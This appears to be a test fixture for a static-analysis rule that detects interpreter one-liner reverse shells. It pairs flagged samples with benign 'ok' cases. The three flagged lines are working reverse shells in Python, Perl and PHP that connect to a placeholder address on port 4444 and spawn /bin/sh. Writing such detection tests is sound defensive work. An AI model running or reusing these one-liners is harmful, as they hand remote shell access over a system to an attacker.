# ruleid: sh-interpreter-oneliner-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
# ruleid: sh-interpreter-oneliner-shell
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'
# ruleid: sh-interpreter-oneliner-shell
php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
# ok: sh-interpreter-oneliner-shell
python3 -c 'import socket; print(socket.gethostname())'
# ok: sh-interpreter-oneliner-shell
python3 -m http.server 8000
# ok: sh-interpreter-oneliner-shell
perl -e 'print "hello\n"'
# ok: sh-interpreter-oneliner-shell
node -e 'require("net").createServer(s => s.end("ok")).listen(8080)'
